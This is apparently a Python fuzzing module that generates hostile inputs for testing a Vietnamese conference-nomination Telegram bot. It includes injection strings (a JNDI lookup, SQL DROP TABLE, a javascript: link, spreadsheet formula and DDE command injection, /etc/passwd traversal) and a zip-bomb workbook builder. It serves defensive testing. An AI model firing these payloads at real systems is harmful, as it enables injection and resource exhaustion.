"""What people throw at the bot: hostile and plausible texts, command arguments, deep-link payloads,
forged callback data and files (random bytes, guest lists, oversized files and bombs).

Every generator takes the run's ``random.Random``, so a seed gives the same inputs again.
"""

from __future__ import annotations

import csv
import functools
import io
import random
import string
import unicodedata
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass

import openpyxl

from rules.text import fold

# --- texts ---------------------------------------------------------------------------------------------

HUGE = "9999999999999999999999999"
NUMBERS = (
    "0",
    "1",
    "2",
    "3",
    "-1",
    "42",
    HUGE,
    "-" + HUGE,
    str(2**63),
    str(2**63 - 1),
    str(2**64),
    str(2**31),
    "1.5",
    "1e9",
    "1e309",
    "NaN",
    "+1",
    "00001",
    " 1",
    "٣",  # Arabic-Indic three: str.isdigit() and \d say yes
    "１２",  # fullwidth digits
    "0x10",
)


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


HOSTILE = (
    " ",
    "\u200b",
    "\u200b\u200c\u200d\ufeff",
    "\u2060xin chào\u2060",
    "\u202eevil\u202c",
    "\u200fمرحبا بالعالم",
    "שלום עולם",
    "{0} %s",
    "{name} {conference} {}",
    "%(name)s %d %% %n",
    "{{}}{{",
    "{0!r:>{1}}",
    "${jndi:ldap://x}",
    "'; DROP TABLE account; --",
    '" OR 1=1 --',
    "<b>đậm</b> <a href='javascript:x'>",
    "*bold* _it_ [x](http://x) `code` ~~",
    '=HYPERLINK("http://x/?"&B2,"Bấm")',
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\x00",
    "a\x00b",
    "\x1b[31mred",
    "null",
    "None",
    "undefined",
    "true",
    "🙏",
    "👍🏽",
    "👨‍👩‍👧‍👦",
    "🇻🇳",
    "😀" * 300,
    "Z̴̧̛̖a̷͎̔l̶̪̀g̵̱͝o̸̰͠",
    nfd("Nguyễn Thị Hoà"),
    nfd("Đề cử"),
    nfd("tham dự"),
    "NGUYỄN VĂN AN",
    "nguyen van an",
    "\n\n\n",
    "x\n" * 300,
    "đ" * 4096,
    "/",
    "//start",
    "@dienhinh_bot",
    "https://t.me/dienhinh_bot?start=inv_x",
    "../../etc/passwd",
    "C:\\con\\aux",
)

NAMES = (
    "Nguyễn Văn An",
    "Trần Thị Bích Ngọc",
    "Lê Văn Nam",
    "NGUYỄN VĂN AN",
    "Phạm Thị Hoà",
    "Hồ Thị Xuân Hương",
    "O'Brien",
    "Tổ dân phố số 5",
    "Gia đình ông Lò Văn Páo",
    '=HYPERLINK("http://x/?"&B2,"Bấm")',
    "A",
    "Nguyễn " * 40,
)
YEARS = ("1985", "1990", "2001", "1960", "1899", "2031", "năm 1975", "19 85", "١٩٨٥", "0", "-1985", HUGE)
PHONES = ("0912345678", "+84 912 345 678", "091-234-5678", "0243 123 4567", "12345", "+1 202 555 0100", "=1+1")
POSITIONS = (
    "Tổ trưởng tổ dân phố số 5",
    "Công nhân vệ sinh môi trường, Công ty Môi trường đô thị",
    "Giáo viên Trường THCS Chu Văn An",
    "=1+1",
    "x",
)
ACHIEVEMENTS = (
    "Mười năm liền vận động bà con giữ vệ sinh ngõ xóm, trồng 300 cây xanh và lập quỹ khuyến học của tổ dân phố.",
    "Cứu hai em nhỏ đuối nước ở hồ Tây ngày 12/7, rồi hướng dẫn người dân sơ cứu; được UBND phường khen thưởng.",
    "Ngắn quá.",
    "Thành tích " * 300,
)
REASONS = ("Đi công tác nước ngoài", "Bị ốm", "x", "🙏", "Lý do " * 200, "=1+1")
WORDS = (
    "có",
    "không",
    "xong",
    "bỏ qua",
    "gửi",
    "sửa",
    "tham dự",
    "tham du",
    "không tham dự",
    "cử người thay thế",
    "duyệt",
    "từ chối",
    "tiếp tục",
    "làm lại",
    "huỷ",
    "vẫn gửi",
    "quay lại",
    "cá nhân",
    "tập thể",
    "nam",
    "nữ",
    "kinh",
    "tày",
    "phật giáo",
    "công nhân",
    "Tiếng Việt",
    "English",
    "district",
    "grassroots",
    "Phường Bưởi",
    "buoi",
    "tất cả",
    "xác nhận",
    "Đề cử",
    "de cu",
    "nominate",
    "yes",
    "no",
)


def random_unicode(rng: random.Random, length: int) -> str:
    alphabets = (
        string.ascii_letters + string.digits + string.punctuation + " ",
        "aăâbcdđeêghiklmnoôơpqrstuưvxyàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ",
        "😀🙏👍🏽🇻🇳👨‍👩‍👧",
        "\u200b\u200c\u200d\u2060\ufeff\u202e\u202c\u200f",
        "\u0300\u0301\u0303\u0309\u0323",
        "مرحباשלום中文日本語한국어",
        "\n\t\r",
    )
    weights = (40, 40, 5, 4, 4, 5, 2)
    return "".join(rng.choice(rng.choices(alphabets, weights)[0]) for _ in range(length))


def hostile_text(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(HOSTILE)
    if roll < 0.9:
        return random_unicode(rng, rng.randint(1, 40))
    if roll < 0.97:
        return random_unicode(rng, rng.randint(200, 1200))
    # 4,096 characters is the most Telegram delivers in one message; 5,000 is more than it ever does.
    return (rng.choice(("a", "đ", "😀 ", "Lý do ")) * 5000)[: rng.choice((4096, 5000))]


def plausible_text(rng: random.Random) -> str:
    pools: Sequence[Sequence[str]] = (WORDS, NAMES, YEARS, PHONES, POSITIONS, ACHIEVEMENTS, REASONS, NUMBERS)
    text = rng.choice(rng.choices(pools, (30, 10, 8, 4, 4, 4, 4, 8))[0])
    roll = rng.random()
    if roll < 0.1:
        return fold(text)
    if roll < 0.15:
        return nfd(text)
    if roll < 0.2:
        return f"  {text.upper()}  "
    return text


# Question → a fitting answer, matched on the folded question text (Vietnamese and English), so the
# fuzzer's people get deep into forms instead of bouncing off the first question.
_HINTS: tuple[tuple[tuple[str, ...], Callable[[random.Random], str]], ...] = (
    (("nam sinh", "year of birth"), lambda rng: rng.choice(YEARS[:4]) if rng.random() < 0.8 else rng.choice(YEARS)),
    (("thanh tich", "achievements"), lambda rng: rng.choice(ACHIEVEMENTS)),
    (("so dien thoai", "phone"), lambda rng: rng.choice(PHONES)),
    (("bao nhieu thanh vien", "how many members"), lambda rng: rng.choice(("12", "0", "100001", HUGE, "mười"))),
    (("phong trao nao", "which movement"), lambda rng: rng.choice(("Phong trào xanh - sạch - đẹp", "x"))),
    (("ly do", "reason", "why"), lambda rng: rng.choice(REASONS)),
    (("chuc vu", "position"), lambda rng: rng.choice(POSITIONS)),
    (("nghe nghiep", "occupation"), lambda rng: rng.choice(("công nhân", "nông dân", "cán bộ", "khác"))),
    (("ho va ten", "full name", "ten day du", "ai se tham du"), lambda rng: rng.choice(NAMES)),
    (("thay doi", "changes", "nhan xet", "message"), lambda rng: rng.choice(REASONS + POSITIONS)),
)


def answer_for(question: str, rng: random.Random) -> str | None:
    """A plausible answer to the bot's question, or None when the question is not recognised."""
    folded = fold(question)
    for keys, answer in _HINTS:
        if any(key in folded for key in keys):
            return answer(rng)
    return None


def typed_label(label: str, index: int, rng: random.Random) -> str:
    """How a person types a button's answer: its number, its label, without tone marks, in capitals."""
    return rng.choice((str(index + 1), label, fold(label), label.upper(), f" {label} ", nfd(label), label[:3]))


# --- commands ------------------------------------------------------------------------------------------


@dataclass
class Refs:
    """What people can refer to: real codes, ids, names and links seen so far (grows during the run)."""

    codes: list[str]
    invitation_ids: list[int]
    usernames: list[str]
    user_ids: list[int]
    conferences: list[str]
    units: list[str]
    checkin_codes: list[str]
    payloads: list[str]


ROLES = ("organiser", "reviewer", "citizen", "focal_point", "Ban tổ chức", "xét duyệt", "người dân", "admin", "")
ACTIONS = ("attend", "decline", "tham dự", "không tham dự", "tham du", "cancel", "x")


def _some(rng: random.Random, pool: Sequence[str], fallback: str = "") -> str:
    return rng.choice(pool) if pool else fallback


def _reference(rng: random.Random, refs: Refs) -> str:
    """A code, an id or a name: real most of the time, otherwise hostile."""
    roll = rng.random()
    if roll < 0.35:
        return _some(rng, refs.codes, "DH-2020-0001")
    if roll < 0.55:
        return str(rng.choice(refs.invitation_ids)) if refs.invitation_ids else "1"
    if roll < 0.65:
        return _some(rng, refs.checkin_codes, "ABCD-EFGH")
    if roll < 0.75:
        code = _some(rng, refs.codes, "DH-2020-0001")
        return rng.choice((code.lower(), code.replace("-", " "), code.rsplit("-", 1)[0] + "-" + HUGE, code + "x"))
    if roll < 0.9:
        return rng.choice(NUMBERS)
    return hostile_text(rng)[:60]


def command_arguments(name: str, rng: random.Random, refs: Refs) -> str:
    """Arguments for ``/name``: the shapes the command expects, with real and hostile values."""
    if rng.random() < 0.25:
        return ""
    if rng.random() < 0.1:
        return hostile_text(rng)
    conference = _some(rng, refs.conferences, "district") if rng.random() < 0.8 else hostile_text(rng)[:30]
    if name == "grant":
        target = rng.choice(
            (_some(rng, refs.usernames, "@x"), str(rng.choice(refs.user_ids)), HUGE, "@nobody", "-1", "@")
        )
        return f"{target} {rng.choice(ROLES)}".strip()
    if name == "invite":
        what = rng.choice(("all", "tất cả", _reference(rng, refs), _reference(rng, refs)))
        return f"{what} {conference}" if rng.random() < 0.5 else what
    if name == "override":
        reason = rng.choice(("đã xác nhận qua điện thoại", "", hostile_text(rng)[:200]))
        return f"{_reference(rng, refs)} {rng.choice(ACTIONS)} {reason}".strip()
    if name in ("checkin",):
        return rng.choice((_some(rng, refs.checkin_codes, "ABCD-EFGH"), _reference(rng, refs), "abcd efgh"))
    if name in ("nomination", "share", "publish"):
        return _reference(rng, refs)
    if name in ("status", "attendance", "invitations", "delegates", "export", "deadlines", "substitutes"):
        return conference
    if name == "lang":
        return rng.choice(("vi", "en", "English", "Tiếng Việt", "tieng viet", "fr", "EN", "2"))
    if name == "unitlink":
        return _some(rng, refs.units, "Phường Bưởi") if rng.random() < 0.7 else rng.choice(("buoi", "x", HUGE))
    return " ".join(_reference(rng, refs) for _ in range(rng.randint(1, 3)))


# --- deep links ----------------------------------------------------------------------------------------

LINK_PREFIXES = ("inv_", "chk_", "unit_", "end_")


def mutate_token(token: str, rng: random.Random) -> str:
    """A payload a person could mistype or an attacker could guess from a real one."""
    if not token:
        return rng.choice(LINK_PREFIXES)
    prefix, _, body = token.partition("_")
    operations: tuple[Callable[[], str], ...] = (
        lambda: token[: rng.randint(0, len(token))],
        lambda: token + rng.choice(("x", "=", "_", "A" * 20)),
        lambda: token.upper(),
        lambda: rng.choice(LINK_PREFIXES) + body,
        lambda: f"{prefix}_{body[::-1]}",
        lambda: f"{prefix}_" + "".join(rng.choice(string.ascii_letters + "-_") for _ in body),
        lambda: f"{prefix}__{body}",
        lambda: f"{prefix}_{HUGE}",
        lambda: token.replace(body[:1] or "a", rng.choice("AaZz09-_"), 1),
    )
    return rng.choice(operations)()


def deep_link_payload(rng: random.Random, refs: Refs) -> tuple[str, str]:
    """(how it was made, payload)."""
    roll = rng.random()
    if roll < 0.45 and refs.payloads:
        return "real", rng.choice(refs.payloads)
    if roll < 0.8 and refs.payloads:
        return "mutated", mutate_token(rng.choice(refs.payloads), rng)
    made = rng.choice(
        (
            rng.choice(LINK_PREFIXES)
            + "".join(rng.choice(string.ascii_letters + string.digits + "-_") for _ in range(43)),
            rng.choice(LINK_PREFIXES),
            rng.choice(LINK_PREFIXES) + HUGE,
            "x" * 64,
            random_unicode(rng, rng.randint(1, 30)),
            "inv_" + "A" * 300,
        )
    )
    return "random", made


# --- callback data -------------------------------------------------------------------------------------


def literal_prefix(pattern: str) -> str:
    """The fixed start of an anchored handler pattern: ``^rv1:[arcdnb]:\\d+$`` → ``rv1:``."""
    out: list[str] = []
    index = 1 if pattern.startswith("^") else 0
    while index < len(pattern):
        char = pattern[index]
        if char == "\\" and index + 1 < len(pattern) and not pattern[index + 1].isalnum():
            out.append(pattern[index + 1])
            index += 2
            continue
        if char in ".^$*+?{}[]()|\\":
            break
        out.append(char)
        index += 1
    return "".join(out)


def fit_callback_data(data: str) -> str:
    """Telegram carries at most 64 bytes of callback data."""
    encoded = data.encode()[:64]
    return encoded.decode(errors="ignore")


def forge_callback_data(rng: random.Random, real: Sequence[str], prefixes: Sequence[str]) -> tuple[str, str | None]:
    """(how it was made, data): a real datum mutated, a handler's prefix with made-up parts, garbage or None."""
    roll = rng.random()
    if roll < 0.06:
        return "nodata", None
    if roll < 0.1:
        return "empty", ""
    if roll < 0.18:
        return "garbage", fit_callback_data(random_unicode(rng, 64))
    if roll < 0.5 and prefixes:
        prefix = rng.choice(prefixes)
        parts = [rng.choice(("a", "r", "c", "d", "n", "b", "s", "yes", "no", "ok", "all", "x", ""))]
        parts += [rng.choice(NUMBERS) for _ in range(rng.randint(0, 2))]
        return "prefix", fit_callback_data(prefix + ":".join(parts))
    template = rng.choice(real) if real else "rv1:a:1"
    parts = template.split(":")
    operations: tuple[Callable[[], list[str]], ...] = (
        lambda: [*parts[:-1], rng.choice(NUMBERS)],
        lambda: parts[: max(1, len(parts) - 1)],
        lambda: [*parts, rng.choice(("x", "1", HUGE, ""))],
        lambda: [rng.choice(prefixes).rstrip(":") if prefixes else "zz", *parts[1:]],
        lambda: [parts[0], rng.choice(string.ascii_lowercase), *parts[2:]],
        lambda: [part if not part.isdigit() else HUGE for part in parts],
        lambda: [part if not part.isdigit() else "-" + part for part in parts],
        lambda: [parts[0]],
    )
    return "mutated", fit_callback_data(":".join(rng.choice(operations)()))


# --- files ---------------------------------------------------------------------------------------------

GUEST_HEADER = [
    "STT",
    "Họ và tên",
    "Năm sinh",
    "Giới tính",
    "Dân tộc",
    "Đơn vị",
    "Chức vụ",
    "Thành phần",
    "Số điện thoại",
]
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MAX_DOWNLOAD = 20 * 1024 * 1024  # the Bot API lets bots download files up to 20 MB


def guest_rows(rng: random.Random, count: int) -> list[list[object]]:
    units = ("Phường Bưởi", "nhat_tan", "Phường Không Có", "tu_lien", "=A1*2", "")
    rows: list[list[object]] = [list(GUEST_HEADER)]
    for number in range(1, count + 1):
        rows.append(
            [
                number,
                rng.choice((*NAMES, "", "Lê Thị Dung", "Vũ Văn Long")),
                rng.choice((1968, 1990, 1850, "", "abc", 2030, HUGE)),
                rng.choice(("Nam", "Nữ", "", "khác")),
                rng.choice(("Kinh", "Tày", "", "Martian")),
                rng.choice(units),
                rng.choice(("Bí thư Đảng ủy phường", "=1+1", "", "Giám đốc")),
                rng.choice(("Cán bộ", "Chủ doanh nghiệp", "", "@SUM(A1)")),
                rng.choice(("0912 345 678", "", "+1 555", '=HYPERLINK("http://x")')),
            ]
        )
    return rows


def xlsx(rows: Sequence[Sequence[object]], sheets: int = 1) -> bytes:
    workbook = openpyxl.Workbook()
    first = workbook.active
    assert first is not None
    for row in rows:
        first.append(list(row))
    for index in range(1, sheets):
        workbook.create_sheet(f"Sheet{index + 1}").append(["x"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: Sequence[Sequence[object]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def _with_sheet(sheet_xml_parts: Sequence[bytes], repeat: int) -> bytes:
    """A small valid workbook whose first sheet is replaced: ``parts[0] + parts[1] * repeat + parts[2]``."""
    source = zipfile.ZipFile(io.BytesIO(xlsx([["x"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                head, body, tail = sheet_xml_parts
                with target.open(item.filename, "w", force_zip64=True) as sheet:
                    sheet.write(head)
                    chunk = body * 4096
                    for _ in range(repeat // 4096):
                        sheet.write(chunk)
                    sheet.write(body * (repeat % 4096))
                    sheet.write(tail)
            else:
                target.writestr(item, source.read(item.filename))
    return out.getvalue()


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)


@functools.cache
def zip_bomb() -> bytes:
    """~100 KB that unpacks to ~100 MB of sheet XML (padding), named like a guest list."""
    return _with_sheet(
        (
            _SHEET_HEAD + b'<row r="1"><c t="inlineStr"><is><t>',
            b" " * 1024,
            b"</t></is></c></row></sheetData></worksheet>",
        ),
        100_000,
    )


@functools.cache
def wide_row() -> bytes:
    """One row of 200,000 cells (a few KB compressed)."""
    return _with_sheet((_SHEET_HEAD + b'<row r="1">', b"<c><v>1</v></c>", b"</row></sheetData></worksheet>"), 200_000)


@functools.cache
def many_sheets() -> bytes:
    return xlsx([GUEST_HEADER, [1, "Nguyễn Văn An", 1968, "Nam"]], sheets=150)


@functools.cache
def long_csv() -> bytes:
    row = "1,Nguyễn Văn An,1968,Nam,Kinh,Phường Bưởi,Cán bộ,Cán bộ,0912345678\n"
    return (",".join(GUEST_HEADER) + "\n" + row * 100_000).encode()


@dataclass(frozen=True)
class FileToSend:
    """A document as Telegram announces it: its bytes, name, type and the size Telegram reports."""

    variant: str
    data: bytes
    file_name: str
    mime_type: str | None = None
    file_size: int | None = None
    caption: str | None = None


def document(rng: random.Random) -> FileToSend:
    roll = rng.random()
    name = rng.choice(("khach-moi.xlsx", "danh sach.XLSX", "khách mời (1).xlsx", "guests.csv", "a" * 250 + ".xlsx"))
    caption = rng.choice((None, None, "district", "grassroots", "/start", hostile_text(rng)[:100]))
    if roll < 0.2:
        data = rng.randbytes(rng.randint(0, 4096))
        return FileToSend(
            "random-bytes", data, rng.choice((name, "x.pdf", "noextension", "../../x.csv")), caption=caption
        )
    if roll < 0.4:
        return FileToSend(
            "guest-list-xlsx", xlsx(guest_rows(rng, rng.randint(1, 12))), name, XLSX_MIME, caption=caption
        )
    if roll < 0.5:
        return FileToSend(
            "guest-list-csv",
            csv_bytes(guest_rows(rng, rng.randint(1, 12))),
            "khach-moi.csv",
            "text/csv",
            caption=caption,
        )
    if roll < 0.56:
        return FileToSend("broken-zip", b"PK\x03\x04 this is no workbook" + rng.randbytes(64), name, XLSX_MIME)
    if roll < 0.6:
        return FileToSend("old-xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "khach-moi.xls")
    if roll < 0.64:
        return FileToSend("empty", b"", name)
    if roll < 0.7:
        return FileToSend("oversized", b"x" * 1024, name, XLSX_MIME, file_size=MAX_DOWNLOAD + rng.randint(1, 10**9))
    if roll < 0.78:
        return FileToSend("zip-bomb", zip_bomb(), "khach-moi.xlsx", XLSX_MIME, caption=caption)
    if roll < 0.86:
        return FileToSend("wide-row", wide_row(), "khach-moi.xlsx", XLSX_MIME, caption=caption)
    if roll < 0.93:
        return FileToSend("many-sheets", many_sheets(), "khach-moi.xlsx", XLSX_MIME, caption=caption)
    return FileToSend("long-csv", long_csv(), "khach-moi.csv", "text/csv", caption=caption)


PNG_HEADER = b"\x89PNG\r\n\x1a\n"


def photo(rng: random.Random) -> tuple[bytes, str | None]:
    data = (PNG_HEADER if rng.random() < 0.5 else b"") + rng.randbytes(rng.randint(0, 2048))
    caption = rng.choice((None, None, "Giấy khen", hostile_text(rng)[:1024], "/start", "xong"))
    return data, caption
